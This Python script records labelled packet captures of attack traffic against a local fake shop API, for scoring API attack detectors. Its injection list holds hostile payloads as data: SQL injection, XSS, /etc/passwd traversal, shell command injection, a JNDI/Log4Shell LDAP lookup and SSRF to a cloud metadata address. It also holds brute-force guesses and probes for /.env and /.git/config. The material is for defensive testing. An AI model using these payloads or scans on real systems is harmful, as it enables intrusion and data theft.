"""Record labelled captures of real API traffic with attacks in it (`attacks_*.pcap`), for detector tests.

Usage, as root from the project root (tcpdump and curl on PATH):

    /work/venv/bin/python pcaps/record_attacks.py [OUTPUT_DIR]

What it records: a JSON shop API (http.server, ThreadingHTTPServer, HTTP/1.1 keep-alive) on 127.0.0.1:18090,
documented by `attacks_api.yaml` except for two shadow routes, GET /api/v1/internal/debug (an AWS key id and
an RSA private key, fake) and GET /api/v1/admin/export (emails, Luhn-valid test card numbers, SSNs). GET
/api/v1/users/{id} is documented but leaks an undocumented `ssn` field for SSN_USER_IDS. Every capture holds
the same ~30 s of normal traffic from four curl clients (127.0.0.10-13: logins, one mistyped password,
browsing, searches, 48 small orders, at most 2 requests/s each, over keep-alive connections) and one or two
attackers, each doing one thing from its own address so the labels stay clean:

- attacks_rate_abuse.pcap: 127.0.0.66 bursts 400 GET /api/v1/products at 150/s.
- attacks_enum_shadow.pcap: 127.0.0.68 walks GET /api/v1/users/1..300 at 15/s; 127.0.0.69 scans for hidden
  routes, finds the two shadow endpoints and gets four 404s.
- attacks_bruteforce_injection.pcap: 127.0.0.67 tries 48 wrong passwords for `alice` at 2/s; 127.0.0.70
  sends 13 injection requests (sqli, xss, path traversal, command injection, JNDI, SSRF), one per second.
- attacks_payload.pcap: 127.0.0.71 logs in, waits until the server has created BASELINE_ORDERS normal
  orders, then posts a 200 kB order, a binary body and two orders with keys no normal client sends.

It also writes `attacks_labels.json`: per capture, each client's request count and response statuses, and
what a correct detector set should raise (attacks and data exposures) or may raise without penalty.

How: each capture runs tcpdump (record_real's helper: `-i lo -s 0`, BPF `tcp port 18090`, settles 2 s so the
FINs are in the file), a fresh server, then every client in its own thread; a client is a list of sessions,
each one curl process (one keep-alive connection, `--next` per request, pacing with `--rate`) followed by a
pause. Request bodies go through files, so the bytes on the wire are exactly the body; attack strings in query
strings go through `-G --data-urlencode` (as a real client encodes them) except where an attacker sends them
raw (`--path-as-is` for `../`, the SSRF URL). After recording, tshark's per-client request and status counts
must equal the plan's, or the script stops before anything is moved to OUTPUT_DIR.

Deterministic except for timestamps, ports, the interleaving of the clients and the Date header: response
bodies depend only on the request (order ids derive from the body, tokens from the user name).
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import random
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import zlib
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs

from record_real import MAX_CAPTURE_BYTES, curl, ensure_port_free, tcpdump, tshark_counts

HOST = "127.0.0.1"
PORT = 18090
BASE_URL = f"http://{HOST}:{PORT}"
API = "/api/v1"
BASELINE_ORDERS = 40
MAX_ORDER_BODY_BYTES = 64 * 1024
SERVER_WRITE_BUFFER_BYTES = 1 << 16

JWT_SECRET = b"apispy-sample-jwt-secret"
JWT_ISSUED_AT = 1_700_000_000
PASSWORDS = {"alice": "correct-horse-battery", "bob": "Tr0ub4dor&3x", "carol": "backoffice-2024",
             "partner-sync": "ps-7c1f9e2a", "mallory": "mallory-pass-1"}

FIRST_NAMES = ("Alice", "Bob", "Carol", "Dan", "Erin", "Frank", "Grace", "Heidi", "Ivan", "Judy")
LAST_NAMES = ("Smith", "Jones", "Brown", "Lee")
USER_COUNT = 40
SSN_USER_IDS = {3: "123-45-6789", 17: "234-56-7890", 29: "345-67-8901"}
PRODUCTS = (
    {"id": 1, "name": "Blue Shoes", "category": "shoes", "price_cents": 5999},
    {"id": 2, "name": "Running Socks", "category": "clothing", "price_cents": 899},
    {"id": 3, "name": "Rain Jacket", "category": "clothing", "price_cents": 8950},
    {"id": 4, "name": "Wool Hat", "category": "accessories", "price_cents": 1999},
    {"id": 5, "name": "Leather Belt", "category": "accessories", "price_cents": 2999},
    {"id": 6, "name": "Summer Dress", "category": "clothing", "price_cents": 4599},
    {"id": 7, "name": "Hiking Boots", "category": "shoes", "price_cents": 12900},
    {"id": 8, "name": "Kids Backpack", "category": "accessories", "price_cents": 3499},
)
SEARCH_WORDS = ("blue shoes", "running socks", "rain jacket", "wool hat", "leather belt", "summer dress",
                "hiking boots", "kids backpack")
CATEGORIES = ("shoes", "clothing", "accessories")
SEEDED_ORDER_IDS = range(1001, 1013)

FAKE_AWS_KEY_ID = "AKIA4APISPYFAKE7Q2XZ"
TEST_CARD_NUMBERS = ("4111111111111111", "5555555555554444", "4012888888881881", "5105105105105100",
                     "378282246310005", "6011111111111117")
EXPORT_CUSTOMERS = 30

NORMAL_CLIENTS = {
    "127.0.0.10": ("web shopper", "alice", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"),
    "127.0.0.11": ("mobile app", "bob", "ShopApp/5.1 (iOS 17.2; iPhone14,2)"),
    "127.0.0.12": ("back office", "carol", "backoffice/1.4 python-httpx/0.26.0"),
    "127.0.0.13": ("partner integration", "partner-sync", "partner-sync/0.9"),
}
JNDI = "${jndi:ldap://127.0.0.1:1389/a}"


def make_token(username: str) -> str:
    """A real HS256 JWT, the same for a user on every run."""
    def segment(value: dict) -> str:
        return base64.urlsafe_b64encode(json.dumps(value, separators=(",", ":")).encode()).rstrip(b"=").decode()
    signing_input = segment({"alg": "HS256", "typ": "JWT"}) + "." + segment(
        {"sub": username, "iat": JWT_ISSUED_AT, "exp": JWT_ISSUED_AT + 3600})
    signature = hmac.new(JWT_SECRET, signing_input.encode(), hashlib.sha256).digest()
    return signing_input + "." + base64.urlsafe_b64encode(signature).rstrip(b"=").decode()


def luhn_valid(digits: str) -> bool:
    total = 0
    for position, digit in enumerate(reversed(digits)):
        value = int(digit) * (2 if position % 2 else 1)
        total += value - 9 if value > 9 else value
    return total % 10 == 0


def fake_private_key() -> str:
    """A PEM block that looks like an RSA key; the base64 is a hash chain, not a key."""
    material = b"".join(hashlib.sha256(b"apispy-fake-key-%d" % index).digest() for index in range(36))
    text = "MIIEpAIBAAKCAQEA" + base64.b64encode(material).decode()
    lines = [text[start:start + 64] for start in range(0, len(text), 64)]
    return "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(lines) + "\n-----END RSA PRIVATE KEY-----\n"


def debug_config() -> dict:
    secret = base64.b64encode(hashlib.sha256(b"apispy-fake-aws-secret").digest()).decode()[:40]
    return {"service": "shop-api", "version": "2.1.0", "env": "production", "debug": True,
            "database": {"host": "127.0.0.1", "port": 5432, "name": "shop", "pool_size": 10},
            "aws": {"region": "eu-west-1", "access_key_id": FAKE_AWS_KEY_ID, "secret_access_key": secret},
            "tls": {"private_key": fake_private_key()}}


def export_rows() -> list[dict]:
    rows = []
    for index in range(EXPORT_CUSTOMERS):
        first, last = FIRST_NAMES[index % len(FIRST_NAMES)], LAST_NAMES[index % len(LAST_NAMES)]
        ssn = "123-45-6789" if index == 0 else f"{100 + 7 * index:03d}-{10 + index:02d}-{1000 + 37 * index:04d}"
        rows.append({"id": index + 1, "name": f"{first} {last}", "email": f"{first}.{last}{index}@example.com".lower(),
                     "card_number": TEST_CARD_NUMBERS[index % len(TEST_CARD_NUMBERS)], "ssn": ssn})
    return rows


def user_record(user_id: int) -> dict:
    first, last = FIRST_NAMES[(user_id - 1) % len(FIRST_NAMES)], LAST_NAMES[(user_id - 1) // len(FIRST_NAMES)]
    record = {"id": user_id, "name": f"{first} {last}", "email": f"{first}.{last}{user_id}@example.com".lower(),
              "created": f"2023-{1 + user_id % 12:02d}-{1 + user_id % 28:02d}"}
    if user_id in SSN_USER_IDS:
        record["ssn"] = SSN_USER_IDS[user_id]
    return record


class ShopApiHandler(BaseHTTPRequestHandler):
    """The shop API. A buffered `wfile` sends the headers and body of a response in one segment: unbuffered,
    http.server sends them separately and Nagle holds the body until the client's delayed ACK (~40 ms)."""

    protocol_version = "HTTP/1.1"
    server_version = "ShopApi/2.1"
    wbufsize = SERVER_WRITE_BUFFER_BYTES

    def version_string(self) -> str:
        return self.server_version

    def log_message(self, format: str, *args: object) -> None:
        """Quiet: the capture is the log."""

    def send_json(self, status: int, payload: object) -> None:
        data = json.dumps(payload, separators=(",", ":")).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def bearer_user(self) -> str | None:
        scheme, _, token = self.headers.get("Authorization", "").partition(" ")
        return self.server.token_users.get(token) if scheme == "Bearer" else None

    def do_GET(self) -> None:
        path, _, query = self.path.partition("?")
        params = parse_qs(query)
        parts = path.split("/")
        if path == f"{API}/users":
            listing = [{"id": user_id, "name": user_record(user_id)["name"]} for user_id in range(1, USER_COUNT + 1)]
            self.send_json(200, {"users": listing, "count": len(listing)})
        elif path.startswith(f"{API}/users/") and len(parts) == 5:
            user_id = int(parts[4]) if parts[4].isdigit() else 0
            if 1 <= user_id <= USER_COUNT:
                self.send_json(200, user_record(user_id))
            else:
                self.send_json(404, {"error": "user not found"})
        elif path.startswith(f"{API}/orders/") and len(parts) == 5:
            order = self.server.orders.get(int(parts[4])) if parts[4].isdigit() else None
            if self.bearer_user() is None:
                self.send_json(401, {"error": "missing or unknown bearer token"})
            elif order is None:
                self.send_json(404, {"error": "order not found"})
            else:
                self.send_json(200, order)
        elif path == f"{API}/search":
            text = params.get("q", [""])[0]
            words = {word for word in re.split(r"\W+", text.lower()) if len(word) > 2}
            results = [product for product in PRODUCTS if words & set(product["name"].lower().split())]
            self.send_json(200, {"query": text, "results": results})
        elif path == f"{API}/products":
            category = params.get("category", [""])[0]
            listing = [product for product in PRODUCTS if product["category"] == category or category not in CATEGORIES]
            self.send_json(200, {"products": listing})
        elif path == f"{API}/internal/debug":
            self.send_json(200, debug_config())
        elif path == f"{API}/admin/export":
            self.send_json(200, {"exported_at": "2024-01-31T12:00:00Z", "customers": export_rows()})
        else:
            self.send_json(404, {"error": "not found"})

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        if self.path == f"{API}/login":
            self.login(body)
        elif self.path == f"{API}/orders":
            self.create_order(body)
        else:
            self.send_json(404, {"error": "not found"})

    def login(self, body: bytes) -> None:
        try:
            credentials = json.loads(body)
            username, password = str(credentials["username"]), str(credentials["password"])
        except (ValueError, KeyError, TypeError):
            self.send_json(400, {"error": "expected JSON with username and password"})
            return
        if PASSWORDS.get(username) != password:
            self.send_json(401, {"error": "invalid username or password"})
            return
        token = make_token(username)
        with self.server.lock:
            self.server.token_users[token] = username
        self.send_json(200, {"token": token, "token_type": "Bearer", "expires_in": 3600})

    def create_order(self, body: bytes) -> None:
        if self.bearer_user() is None:
            self.send_json(401, {"error": "missing or unknown bearer token"})
        elif len(body) > MAX_ORDER_BODY_BYTES:
            self.send_json(413, {"error": "order body larger than 64 KiB"})
        elif not self.headers.get("Content-Type", "").startswith("application/json"):
            self.send_json(415, {"error": "orders are JSON"})
        else:
            try:
                request = json.loads(body)
                product = PRODUCTS[int(request["product_id"]) - 1]
                quantity = int(request["quantity"])
            except (ValueError, KeyError, TypeError, IndexError):
                self.send_json(400, {"error": "expected product_id and quantity"})
                return
            order = {"id": 100_000 + zlib.crc32(body) % 900_000, "status": "created", "product_id": product["id"],
                     "quantity": quantity, "total_cents": quantity * product["price_cents"]}
            with self.server.lock:
                self.server.orders[order["id"]] = order
                self.server.orders_created += 1
            self.send_json(201, order)

    def do_DELETE(self) -> None:
        parts = self.path.split("/")
        if self.bearer_user() is None:
            self.send_json(401, {"error": "missing or unknown bearer token"})
        elif (self.path.startswith(f"{API}/products/") and len(parts) == 5 and parts[4].isdigit()
              and 1 <= int(parts[4]) <= len(PRODUCTS)):
            self.send_response(204)
            self.end_headers()
        else:
            self.send_json(404, {"error": "not found"})


class ShopApiServer(ThreadingHTTPServer):
    """Server state: issued tokens, orders (seeded 1001-1012) and how many orders were created."""

    daemon_threads = True

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.token_users: dict[str, str] = {}
        self.orders = {order_id: {"id": order_id, "status": "shipped", "product_id": 1 + order_id % 8,
                                  "quantity": 1 + order_id % 3, "total_cents": 1999 * (1 + order_id % 3)}
                       for order_id in SEEDED_ORDER_IDS}
        self.orders_created = 0
        super().__init__((HOST, PORT), ShopApiHandler)


UNRESERVED = frozenset(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~")


def form_encode(value: str) -> str:
    """A query value as curl 7.88's `--data-urlencode` sends it: space as `+`, every other byte outside
    ALPHA / DIGIT / `-._~` as `%xx` with lower-case hex."""
    return "".join(chr(byte) if byte in UNRESERVED else "+" if byte == 0x20 else f"%{byte:02x}"
                   for byte in value.encode())


@dataclass(frozen=True)
class Call:
    """One request. `path` goes on the wire as written; `query` values are encoded by curl
    (`-G --data-urlencode`, see form_encode)."""

    method: str
    path: str
    status: int
    query: tuple[tuple[str, str], ...] = ()
    body: bytes | None = None
    content_type: str = "application/json"
    headers: tuple[str, ...] = ()
    path_as_is: bool = False

    @property
    def target(self) -> str:
        """The request-target as on the wire."""
        if not self.query:
            return self.path
        encoded = "&".join(f"{name}={form_encode(value)}" for name, value in self.query)
        return f"{self.path}{'&' if '?' in self.path else '?'}{encoded}"


@dataclass(frozen=True)
class Session:
    """Requests sent by one curl process over one keep-alive connection, at most `rate` (curl's N/unit)."""

    calls: tuple[Call, ...]
    rate: str
    pause_after_s: float = 0.0


@dataclass
class Client:
    src_ip: str
    user_agent: str
    sessions: list[Session]
    start_s: float = 0.0
    wait_for_orders: int = 0

    @property
    def calls(self) -> list[Call]:
        return [call for session in self.sessions for call in session.calls]


@dataclass
class CapturePlan:
    """One capture: the attackers that join the normal clients, its attack labels, and its manifest summary."""

    name: str
    summary: str
    attackers: list[Client]
    labels: list[dict] = field(default_factory=list)


def get(path: str, status: int = 200, **options: object) -> Call:
    return Call("GET", path, status, **options)


def post_json(path: str, payload: dict, status: int, headers: tuple[str, ...] = ()) -> Call:
    return Call("POST", path, status, body=json.dumps(payload).encode(), headers=headers)


def login(username: str, password: str | None = None) -> Call:
    password = PASSWORDS[username] if password is None else password
    return post_json(f"{API}/login", {"username": username, "password": password},
                     200 if PASSWORDS.get(username) == password else 401)


def bearer(username: str) -> tuple[str, ...]:
    return (f"Authorization: Bearer {make_token(username)}",)


def order(username: str, sequence: int) -> Call:
    """A normal order: the same four keys every time, a coupon on every fifth."""
    payload = {"product_id": 1 + (sequence * 3) % len(PRODUCTS), "quantity": 1 + sequence % 3,
               "shipping": "express" if sequence % 4 == 0 else "standard", "payment_method": "card_on_file"}
    if sequence % 5 == 0:
        payload["coupon"] = "SPRING10"
    return post_json(f"{API}/orders", payload, 201, bearer(username))


def search(words: str) -> Call:
    return get(f"{API}/search", query=(("q", words),))


def normal_clients() -> list[Client]:
    """Four app-like clients; together 98 requests and 48 orders in about 28 s, never more than 2/s each."""
    shopper = [Session((login("alice"), get(f"{API}/products"), search("blue shoes"), get(f"{API}/users/1")),
                       "2/s", 2.0)]
    shopper += [Session((search(SEARCH_WORDS[1 + index]),
                         get(f"{API}/products", query=(("category", CATEGORIES[index % 3]),)),
                         order("alice", 2 * index), order("alice", 2 * index + 1),
                         get(f"{API}/orders/{SEEDED_ORDER_IDS[index]}", headers=bearer("alice"))), "2/s", 2.5)
                for index in range(4)]
    mobile = [Session((login("bob", "Tr0ub4dor&3"),), "1/s", 3.0),
              Session((login("bob"), get(f"{API}/products"), get(f"{API}/users/2")), "2/s", 2.0)]
    mobile += [Session((get(f"{API}/products"), search(SEARCH_WORDS[(5 + index) % 8]), order("bob", 3 * index),
                        order("bob", 3 * index + 1), order("bob", 3 * index + 2)), "2/s", 2.0) for index in range(4)]
    back_office = [Session((login("carol"), get(f"{API}/users"), get(f"{API}/users/3"), get(f"{API}/users/4"),
                            get(f"{API}/users/5")), "90/m", 3.0)]
    back_office += [Session((get(f"{API}/users"), get(f"{API}/users/{6 + index}"),
                             get(f"{API}/orders/{SEEDED_ORDER_IDS[4 + index]}", headers=bearer("carol")),
                             get(f"{API}/orders/{SEEDED_ORDER_IDS[8 + index]}", headers=bearer("carol")),
                             search(SEARCH_WORDS[index + 2])), "90/m", 3.0) for index in range(3)]
    partner = [Session((login("partner-sync"), get(f"{API}/products")), "1/s", 1.0)]
    partner += [Session(tuple(order("partner-sync", 4 * batch + index) for index in range(4)), "90/m", 1.0)
                for batch in range(7)]
    plans = {"127.0.0.10": shopper, "127.0.0.11": mobile, "127.0.0.12": back_office, "127.0.0.13": partner}
    return [Client(src_ip, NORMAL_CLIENTS[src_ip][2], sessions, start_s=0.3 * index)
            for index, (src_ip, sessions) in enumerate(plans.items())]


def label(capture: str, src_ip: str, detector: str, note: str, **fields: object) -> dict:
    return {"capture": capture, "src_ip": src_ip, "detector": detector, **fields, "note": note}


def rate_abuse_plan() -> CapturePlan:
    name = "attacks_rate_abuse.pcap"
    burst = Client("127.0.0.66", "curl/7.88.1", [Session(tuple(get(f"{API}/products") for _ in range(400)),
                                                         "150/s")], start_s=10.0)
    summary = ("normal clients 127.0.0.10-13 + rate abuse from 127.0.0.66: "
               "400 GET /api/v1/products at 150/s")
    return CapturePlan(name, summary, [burst], [label(
        name, "127.0.0.66", "rate_abuse", "400 requests at up to 150/s (~2.7 s) on one keep-alive connection, "
        "10 s into the capture; normal clients stay at or below 2/s", method="GET", endpoint=f"{API}/products",
        requests=400)])


def enum_shadow_plan() -> CapturePlan:
    name = "attacks_enum_shadow.pcap"
    walker = Client("127.0.0.68", "Go-http-client/1.1",
                    [Session(tuple(get(f"{API}/users/{user_id}", 200 if user_id <= USER_COUNT else 404)
                                   for user_id in range(1, 301)), "15/s")], start_s=4.0)
    probes = (get("/.env", 404), get("/wp-admin/", 404), get(f"{API}/internal/debug"), get("/.git/config", 404),
              get(f"{API}/admin/export"), get("/server-status", 404))
    scanner = Client("127.0.0.69", "Mozilla/5.0 (compatible; scanner/1.0)", [Session(probes, "2/s")], start_s=10.0)
    labels = [
        label(name, "127.0.0.68", "enumeration", f"ids 1..300 in order at 15/s (~20 s): {USER_COUNT} x 200, "
               f"{300 - USER_COUNT} x 404", method="GET", endpoint=f"{API}/users/{{id}}", requests=300),
        label(name, "127.0.0.69", "shadow_endpoint", "served (200) but not in attacks_api.yaml", method="GET",
               endpoint=f"{API}/internal/debug"),
        label(name, "127.0.0.69", "shadow_endpoint", "served (200) but not in attacks_api.yaml", method="GET",
               endpoint=f"{API}/admin/export"),
    ]
    summary = ("normal clients + enumeration from 127.0.0.68 (GET /api/v1/users/1..300) + shadow-endpoint scan "
               "from 127.0.0.69 (internal/debug, admin/export, 4 x 404)")
    return CapturePlan(name, summary, [walker, scanner], labels)


def bruteforce_injection_plan() -> CapturePlan:
    name = "attacks_bruteforce_injection.pcap"
    guesses = [f"{word}{suffix}" for word in ("password", "alice", "welcome", "qwerty", "letmein", "dragon",
                                              "monkey", "sunshine") for suffix in ("", "1", "123", "2023", "2024", "!")]
    guesser = Client("127.0.0.67", "python-requests/2.31.0",
                     [Session(tuple(login("alice", guess) for guess in guesses), "2/s")], start_s=3.0)
    injections = [
        ("sqli", search("' OR '1'='1"), (), "query parameter q"),
        ("sqli", get(f"{API}/products", query=(("category", "1 UNION SELECT password FROM users--"),)), (),
         "query parameter category"),
        ("sqli", post_json(f"{API}/login", {"username": "admin' OR '1'='1' --", "password": "x"}, 401), (),
         "JSON body, username"),
        ("sqli", post_json(f"{API}/login", {"username": "alice", "password": "' OR '1'='1"}, 401), (),
         "JSON body, password"),
        ("xss", search("<script>alert(1)</script>"), (), "query parameter q"),
        ("path_traversal", get(f"{API}/../../etc/passwd", 404, path_as_is=True), (), "raw ../ in the path"),
        ("path_traversal", get(f"{API}/products/..%2F..%2F..%2Fetc%2Fpasswd", 404), (),
         "percent-encoded ../ in a path segment"),
        ("path_traversal", search("../../etc/passwd"), (), "percent-encoded in query parameter q"),
        ("cmd_injection", get(f"{API}/products", query=(("sort", "name;cat /etc/passwd"),)), ("path_traversal",),
         "query parameter sort; names /etc/passwd, so a path_traversal finding is also right"),
        ("cmd_injection", search("$(id)"), (), "query parameter q"),
        ("jndi", get(f"{API}/products", headers=(f"User-Agent: {JNDI}",)), (), "User-Agent header"),
        ("jndi", get(f"{API}/search", query=(("q", "shoes"),), headers=(f"X-Api-Version: {JNDI}",)), (),
         "X-Api-Version header"),
        ("ssrf", get(f"{API}/search?q=shoes&url=http://169.254.169.254/latest/meta-data/"), (),
         "raw URL in query parameter url (the server never fetches it)"),
    ]
    injector = Client("127.0.0.70", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
                      [Session(tuple(call for _, call, _, _ in injections), "1/s")], start_s=6.0)
    labels = [label(name, "127.0.0.67", "bruteforce", f"{len(guesses)} wrong passwords for alice at 2/s (~24 s), "
                     "all 401; normal clients fail at most once", method="POST", endpoint=f"{API}/login",
                     requests=len(guesses))]
    for rule, call, also_matches, where in injections:
        fields: dict = {"rule": rule, "method": call.method, "target": call.target}
        if not call.path_as_is and "%2F" not in call.path:
            fields["endpoint"] = call.path.partition("?")[0]
        if also_matches:
            fields["also_matches"] = list(also_matches)
        if call.body is not None:
            fields["body"] = call.body.decode()
        labels.append(label(name, "127.0.0.70", "injection", f"{where}; answered {call.status}", **fields))
    summary = ("normal clients + brute force from 127.0.0.67 (48 x 401 on POST /api/v1/login) + 13 injection "
               "requests from 127.0.0.70 (sqli, xss, path traversal, cmd, JNDI, SSRF)")
    return CapturePlan(name, summary, [guesser, injector], labels)


def payload_plan() -> CapturePlan:
    name = "attacks_payload.pcap"
    normal_keys = {"product_id": 4, "quantity": 1, "shipping": "standard", "payment_method": "card_on_file"}
    huge = Call("POST", f"{API}/orders", 413, body=json.dumps({**normal_keys, "coupon": "A" * 200_000}).encode(),
                headers=bearer("mallory"))
    binary = Call("POST", f"{API}/orders", 415, body=random.Random(71).randbytes(8192),
                  content_type="application/octet-stream", headers=bearer("mallory"))
    new_keys = post_json(f"{API}/orders", {**normal_keys, "product_id": 2, "price_override_cents": 1,
                                           "is_admin": True}, 201, bearer("mallory"))
    more_new_keys = post_json(f"{API}/orders", {**normal_keys, "product_id": 5, "internal_discount_pct": 100,
                                                "warehouse_override": "WH-9", "fulfilment_priority": "p0"}, 201,
                              bearer("mallory"))
    insider = Client("127.0.0.71", "ShopApp/5.1 (iOS 17.2; iPhone15,3)",
                     [Session((login("mallory"), huge, binary, new_keys, more_new_keys), "1/s")],
                     wait_for_orders=BASELINE_ORDERS)
    kinds = (("size", huge, "200 kB JSON body (a 200000-character coupon); normal orders are ~100 bytes"),
             ("entropy", binary, "8 KiB of random bytes as application/octet-stream"),
             ("schema", new_keys, "JSON with keys no normal order has: price_override_cents, is_admin"),
             ("schema", more_new_keys, "JSON with keys no normal order has: internal_discount_pct, "
                                       "warehouse_override, fulfilment_priority"))
    labels = [label(name, "127.0.0.71", "payload_anomaly", f"{note}; answered {call.status}; sent after "
                     f"{BASELINE_ORDERS}+ normal orders", kind=kind, method="POST", endpoint=f"{API}/orders",
                     body_bytes=len(call.body)) for kind, call, note in kinds]
    summary = ("normal clients + payload anomalies from 127.0.0.71 after 40 normal orders: 200 kB order, "
               "binary body, unknown JSON keys")
    return CapturePlan(name, summary, [insider], labels)


def exposures(plans: list[CapturePlan]) -> list[dict]:
    """Data the server leaks, per client that received it (normal clients included: the leak is the server's)."""
    found = []
    for plan in plans:
        found.append(label(plan.name, "127.0.0.12", "data_exposure", "GET /api/v1/users/3 (back office) returns "
                            "an undocumented ssn field", rule="ssn", method="GET", endpoint=f"{API}/users/{{id}}"))
    enum_capture = "attacks_enum_shadow.pcap"
    found.append(label(enum_capture, "127.0.0.68", "data_exposure", "the walk gets users "
                        f"{', '.join(map(str, SSN_USER_IDS))}, whose records have an ssn field", rule="ssn",
                        method="GET", endpoint=f"{API}/users/{{id}}"))
    for rule, endpoint, note in (
            ("aws_key", "internal/debug", f"AWS access key id {FAKE_AWS_KEY_ID[:4]}... (fake) in the config"),
            ("private_key", "internal/debug", "-----BEGIN RSA PRIVATE KEY----- block (fake) in the config"),
            ("credit_card", "admin/export", f"{EXPORT_CUSTOMERS} Luhn-valid test card numbers"),
            ("ssn", "admin/export", f"{EXPORT_CUSTOMERS} SSNs"),
            ("email_bulk", "admin/export", f"{EXPORT_CUSTOMERS} email addresses in one response")):
        found.append(label(enum_capture, "127.0.0.69", "data_exposure", note, rule=rule, method="GET",
                            endpoint=f"{API}/{endpoint}"))
    return found


def benign_findings(plans: list[CapturePlan]) -> list[dict]:
    """Every successful login: the JWT it returns is the documented answer, not a leak."""
    note = ("POST /api/v1/login answers a correct password with a JWT, as attacks_api.yaml documents; it is issued "
            "to the client that logged in, so it is not a data exposure. Ignored in scoring.")
    found = []
    for plan in plans:
        logged_in = [client.src_ip for client in [*normal_clients(), *plan.attackers]
                     if any(call.path == f"{API}/login" and call.status == 200 for call in client.calls)]
        found += [label(plan.name, src_ip, "data_exposure", note, rule="jwt", method="POST", endpoint=f"{API}/login")
                  for src_ip in logged_in]
    return found


def tolerated_findings() -> list[dict]:
    name = "attacks_enum_shadow.pcap"
    return [
        label(name, "127.0.0.68", "rate_abuse", "15 requests/s for 20 s is fast for a person but far below the "
               "150/s burst of attacks_rate_abuse.pcap; either answer is defensible", endpoint=f"{API}/users/{{id}}"),
        label(name, "127.0.0.68", "data_exposure", "one email per response, 40 responses: bulk only when counted "
               "across responses", rule="email_bulk", endpoint=f"{API}/users/{{id}}"),
    ]


def call_arguments(client: Client, call: Call, body_file: Path) -> list[str]:
    """curl options for one request (one `--next` section)."""
    arguments = ["--interface", client.src_ip, "--user-agent", client.user_agent, "--globoff", "--max-time", "60",
                 "-H", "Accept: application/json"]
    if call.path_as_is:
        arguments.append("--path-as-is")
    for header in call.headers:
        arguments += ["-H", header]
    if call.body is not None:
        body_file.write_bytes(call.body)
        arguments += ["-H", f"Content-Type: {call.content_type}", "-H", "Expect:", "--data-binary", f"@{body_file}"]
    if call.method != ("POST" if call.body is not None else "GET"):
        arguments += ["--request", call.method]
    if call.query:
        arguments.append("--get")
        for name, value in call.query:
            arguments += ["--data-urlencode", f"{name}={value}"]
    return [*arguments, BASE_URL + call.path]


def run_client(client: Client, server: ShopApiServer, workdir: Path) -> None:
    time.sleep(client.start_s)
    deadline = time.monotonic() + 60
    while server.orders_created < client.wait_for_orders:
        if time.monotonic() > deadline:
            raise RuntimeError(f"{client.src_ip}: only {server.orders_created} orders after 60 s")
        time.sleep(0.1)
    for session_index, session in enumerate(client.sessions):
        arguments = ["--rate", session.rate]
        for call_index, call in enumerate(session.calls):
            if call_index:
                arguments.append("--next")
            arguments += call_arguments(client, call, workdir / f"{client.src_ip}-{session_index}-{call_index}.body")
        curl(*arguments)
        time.sleep(session.pause_after_s)


def record(plan: CapturePlan, workdir: Path) -> None:
    """The capture of `plan`: a fresh server, the normal clients and the plan's attackers, all at once."""
    clients = [*normal_clients(), *plan.attackers]
    with tcpdump(workdir / plan.name, "lo", f"tcp port {PORT}"):
        server = ShopApiServer()
        thread = threading.Thread(target=server.serve_forever, name="shop-api", daemon=True)
        thread.start()
        try:
            with ThreadPoolExecutor(max_workers=len(clients)) as pool:
                for future in [pool.submit(run_client, client, server, workdir) for client in clients]:
                    future.result()
        finally:
            server.shutdown()
            server.server_close()
            thread.join()


def planned_requests(plan: CapturePlan) -> Counter:
    return Counter((client.src_ip, call.method, call.target) for client in [*normal_clients(), *plan.attackers]
                   for call in client.calls)


def observed_requests(capture: Path) -> Counter:
    return Counter(map(tuple, tshark_fields(capture, "http.request", "ip.src", "http.request.method",
                                            "http.request.uri")))


def planned_clients(plan: CapturePlan) -> dict[str, dict]:
    """Per client of the capture: how many requests it sends and the statuses it should get."""
    return {client.src_ip: {"requests": len(client.calls),
                            "statuses": dict(sorted(Counter(str(call.status) for call in client.calls).items()))}
            for client in [*normal_clients(), *plan.attackers]}


def tshark_fields(capture: Path, display_filter: str, *fields: str) -> list[list[str]]:
    result = subprocess.run(["tshark", "-r", str(capture), "-d", f"tcp.port=={PORT},http", "-Y", display_filter,
                             "-T", "fields", *[option for name in fields for option in ("-e", name)]],
                            capture_output=True, text=True, check=True)
    return [line.split("\t") for line in result.stdout.splitlines() if line]


def observed_clients(capture: Path) -> dict[str, dict]:
    """What tshark sees: requests per source address, response statuses per destination address."""
    requests = Counter(src for src, in tshark_fields(capture, "http.request", "ip.src"))
    statuses: dict[str, Counter] = {}
    for dst, code in tshark_fields(capture, "http.response", "ip.dst", "http.response.code"):
        statuses.setdefault(dst, Counter())[code] += 1
    return {src_ip: {"requests": requests[src_ip], "statuses": dict(sorted(statuses.get(src_ip, Counter()).items()))}
            for src_ip in sorted(set(requests) | set(statuses))}


def packet_count(capture: Path) -> int:
    result = subprocess.run(["tshark", "-r", str(capture), "-T", "fields", "-e", "frame.number"],
                            capture_output=True, text=True, check=True)
    return len(result.stdout.split())


def labels_document(plans: list[CapturePlan]) -> dict:
    attackers = {client.src_ip for plan in plans for client in plan.attackers}
    return {
        "server": f"{HOST}:{PORT}",
        "spec": "attacks_api.yaml",
        "made_by": "record_attacks.py",
        "scoring": "Match an alert to a label by capture, src_ip and detector, then rule and endpoint where the "
                   "label has them (endpoints as apispy templates them). `attacks` and `exposures` are what a correct "
                   "detector set raises: a label no alert matches is a false negative. An alert that matches none of "
                   "`attacks`, `exposures`, `expected_benign_findings` and `tolerated_findings` is a false positive; "
                   "alerts matching only the last two are ignored. `also_matches` lists other rules that are right "
                   "for the same request.",
        "normal_clients": [{"src_ip": src_ip, "role": role, "user": user, "user_agent": user_agent}
                           for src_ip, (role, user, user_agent) in NORMAL_CLIENTS.items()],
        "captures": {plan.name: {"summary": plan.summary,
                                 "attackers": [client.src_ip for client in plan.attackers],
